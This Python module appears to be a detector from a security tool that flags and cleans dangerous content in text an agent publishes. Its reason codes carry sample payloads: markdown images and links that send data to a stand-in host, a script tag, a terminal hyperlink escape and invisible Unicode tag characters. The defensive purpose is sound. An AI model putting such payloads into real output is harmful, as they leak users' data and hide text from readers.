"""The detector of published text: a finding for each thing in it that is not to be published as it is."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from guardhouse.detect.interface import Detector, Scene
from guardhouse.model import Finding, OutputPublish, ReasonCode, Severity, Span

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

    from guardhouse.net import NetworkRules

_ID: Final = "output"
_MOST_REPORTED: Final = 100
"""Findings of each code; all is cleaned, reported or not."""

CODES: Final = (
    ReasonCode(
        id="output.image",
        title="The text shows an image of a host that is not allowed",
        severity=Severity.HIGH,
        why="An image is fetched as soon as the text is shown, and its address can carry off whatever was read before.",
        instead="Describe the image, or use one of a host that is allowed.",
        example='{"type":"OutputPublish","content":"![chart](https://paste.example/c.png?d=revenue)"}',
        remedy="domain",
        masks=True,
        about="host",
        on=("OutputPublish",),
    ),
    ReasonCode(
        id="output.link",
        title="The text has a link to a host that is not allowed",
        severity=Severity.MEDIUM,
        why="A link can carry off data when somebody clicks on it, or when a chat program makes a preview of it.",
        instead="Name the page in words, or link to a host that is allowed.",
        example='{"type":"OutputPublish","content":"See [the report](https://paste.example/r?d=revenue)"}',
        remedy="domain",
        masks=True,
        about="host",
        on=("OutputPublish",),
    ),
    ReasonCode(
        id="output.active_content",
        title="The text holds something that would run or load when it is shown",
        severity=Severity.HIGH,
        why="Scripts, handlers, frames and forms act for whoever looks at the text.",
        instead="Put code into a block of code, so that it is shown and does not run.",
        example='{"type":"OutputPublish","content":"<script>fetch(1)</script>"}',
        masks=True,
        about="host",
        on=("OutputPublish",),
    ),
    ReasonCode(
        id="output.terminal_commands",
        title="The text holds commands to a terminal",
        severity=Severity.MEDIUM,
        why="They can hide text, move the cursor, write to the clipboard, or make a link that says something else.",
        instead="Write plain text.",
        example='{"type":"OutputPublish","content":"done \\u001b]8;;https://paste.example/\\u0007here"}',
        masks=True,
        about="text",
        on=("OutputPublish",),
    ),
    ReasonCode(
        id="output.hidden_text",
        title="The text holds characters that nobody can see",
        severity=Severity.MEDIUM,
        why="They can carry text that people do not notice when they copy or forward it, and that other programs read.",
        instead="Leave them out.",
        example='{"type":"OutputPublish","content":"Done.\\udb40\\udc68\\udb40\\udc69"}',
        masks=True,
        about="text",
        on=("OutputPublish",),
    ),
)
_SEVERITIES: Final = {code.id: code.severity for code in CODES}


def _find(scene: Scene) -> Iterator[Finding]:
    if not isinstance(scene.action, OutputPublish):
        return
    reported: dict[str, int] = {}
    for leaf in scene.leaves:
        if not may_be_wrong(leaf.text):
            continue
        from guardhouse.detect.output.judging import faults  # few texts need it

        for fault in faults(leaf.text, _rules(scene)):
            # Each code has its own share: many of one must not hide another, which would then not be taken out.
            reported[fault.code] = reported.get(fault.code, 0) + 1
            if reported[fault.code] > _MOST_REPORTED:
                continue
            yield Finding(
                code=fault.code,
                detector=_ID,
                severity=_SEVERITIES[fault.code],
                span=Span(leaf.field, fault.start, fault.end),
                origin=scene.origin,
                host=fault.host,
                detail=fault.detail,
            )


def may_be_wrong(text: str) -> bool:
    """Whether a text has any sign of what is looked for."""
    return not text.isprintable() or not text.isascii() or not _SIGNS.isdisjoint(text)


_SIGNS: Final = frozenset("]<&/.")


def _rules(scene: Scene) -> NetworkRules:
    return scene.settings.network_for(_ID)


class _Cleaner:
    """Takes what is wrong out of texts."""

    def __init__(self, rules: NetworkRules, codes: frozenset[str]) -> None:
        self._rules = rules
        self._codes = codes

    def sub(self, _word: str, text: str) -> str:
        """`text` without it. What stands in its place is a word that says what it was."""
        if not may_be_wrong(text):
            return text
        from guardhouse.detect.output.judging import cleaned

        return cleaned(text, self._rules, self._codes)


def _masks(scene: Scene, wanted: Iterable[tuple[str, str]]) -> Iterator[_Cleaner]:
    codes = frozenset(code for code, _detail in wanted)
    if codes:
        yield _Cleaner(_rules(scene), codes)


DETECTOR: Final = Detector(id=_ID, codes=CODES, find=_find, masks=_masks)
